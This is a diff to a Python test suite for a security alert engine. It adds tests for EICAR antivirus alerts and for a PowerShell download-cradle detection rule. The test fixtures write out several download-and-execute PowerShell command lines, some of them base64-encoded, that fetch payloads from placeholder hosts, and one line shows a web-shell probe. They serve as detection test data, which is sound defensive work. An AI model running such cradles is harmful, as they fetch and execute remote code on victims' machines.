@@ -184,8 +184,10 @@ def test_clamav(engine: Engine) -> None:
     }
     alerts = engine.process(ev)
     assert [(a.rule_title, a.severity) for a in alerts] == [("ClamAV Malware Detection", "high")]
-    eicar = dict(ev, Signature="Win.Test.EICAR_HDB-1 Eicar-Test-Signature")
-    assert titles(engine, eicar) == ["ClamAV EICAR Test File"]
+    # current (0.103+) and older ClamAV names of the EICAR test file: low, never the high rule
+    for name in ("Win.Test.EICAR_HDB-1", "Eicar-Test-Signature", "Eicar-Signature FOUND"):
+        eicar = engine.process(dict(ev, Signature=name))
+        assert [(a.rule_title, a.severity) for a in eicar] == [("ClamAV EICAR Test File", "low")], name
     assert titles(engine, {"logsource.product": "clamav", "logsource.category": "antivirus"}) == []
 
 
@@ -202,6 +204,8 @@ def test_windows_defender(engine: Engine) -> None:
     assert (
         titles(engine, {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": 5007}) == []
     )
+    eicar = engine.process(dict(ev, ThreatName="Virus:DOS/EICAR_Test_File"))
+    assert [(a.rule_title, a.severity) for a in eicar] == [("Windows Defender EICAR Test File", "low")]
 
 
 def web(stem: str, query: str = "") -> dict[str, Any]:
@@ -227,3 +231,88 @@ def test_web_attacks(engine: Engine) -> None:
     assert titles(engine, web("/uploads/img.php", "cmd=whoami")) == ["Web Shell Access"]
     assert titles(engine, web("/news.php", "id=12&page=2")) == []
     assert titles(engine, web("/search", "q=selection+of+unions")) == []
+
+
+def _ps(
+    command_line: str, image: str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+) -> dict[str, Any]:
+    return {
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "EventID": 1,
+        "Computer": "ws-tc-01",
+        "Image": image,
+        "CommandLine": command_line,
+        "@timestamp": ts(0),
+    }
+
+
+def _encoded(script: str) -> str:
+    import base64
+
+    return "powershell.exe -NoP -NonI -W Hidden -Enc " + base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+CRADLE = "PowerShell Download Cradle"
+
+
+def test_powershell_download_cradle_fires_on_the_demo_record(engine: Engine) -> None:
+    """The sample province's story 4, as NXLog JSON through the Windows record mapping."""
+    from collectors.windows import from_json_record
+    from soclite.demo import generate
+
+    province = generate(seed=42, base=T0, hours=1)
+    records = [rec for _, rec in province.records if "DownloadString" in str(rec.get("CommandLine", ""))]
+    assert len(records) == 1
+    alerts = engine.process(from_json_record(records[0], default_tz="Asia/Ho_Chi_Minh"))
+    cradle = [a for a in alerts if a.rule_title == CRADLE]
+    assert len(cradle) == 1
+    assert cradle[0].level == "high" and cradle[0].severity == "high"
+    assert {"attack.execution", "attack.t1059.001", "attack.t1105"} <= set(cradle[0].tags)
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        _ps(
+            "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/a.ps1')\""
+        ),
+        _ps(
+            'pwsh -c "iwr http://185.220.101.7/s.ps1 -UseBasicParsing | iex"',
+            "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+        ),
+        _ps("powershell Invoke-Expression (Invoke-RestMethod https://paste.example/raw/x)"),
+        _ps(
+            "powershell (New-Object System.Net.WebClient).DownloadFile('http://x.example/p.exe','C:\\Users\\Public\\p.exe')"
+        ),
+        _ps("powershell -c Start-BitsTransfer -Source https://x.example/p.exe -Destination $env:TEMP\\p.exe"),
+        _ps(_encoded("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a.ps1')")),
+        _ps(_encoded("$c=New-Object Net.WebClient;$c.DownloadFile('http://a/b','c:\\b.exe')")),
+        {  # Security 4688 (renamed to Sysmon's names by log-source routing)
+            "Channel": "Security",
+            "EventID": 4688,
+            "Computer": "ws-tc-02",
+            "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "CommandLine": 'powershell -w 1 "iex(iwr http://203.0.113.5/x -useb)"',
+        },
+    ],
+)
+def test_powershell_download_cradle_positive(engine: Engine, event: dict[str, Any]) -> None:
+    assert CRADLE in titles(engine, event)
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        _ps("powershell.exe -NoProfile -Command Get-Service | Where-Object Status -eq Running"),
+        _ps("powershell Invoke-WebRequest https://intranet.example/health -UseBasicParsing"),  # fetch, no run
+        _ps("powershell (New-Object Net.WebClient).DownloadFile($src, 'C:\\backup\\x.zip')"),  # no URL
+        _ps("powershell Start-BitsTransfer -Source \\\\fs01\\share\\setup.msi -Destination C:\\tmp"),
+        _ps(_encoded("Get-ChildItem C:\\Users -Recurse | Measure-Object")),
+        _ps(  # the cradle text, but not run by PowerShell
+            "cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('http://a/b') > note.txt",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
+    ],
+)
+def test_powershell_download_cradle_negative(engine: Engine, event: dict[str, Any]) -> None:
+    assert CRADLE not in titles(engine, event)
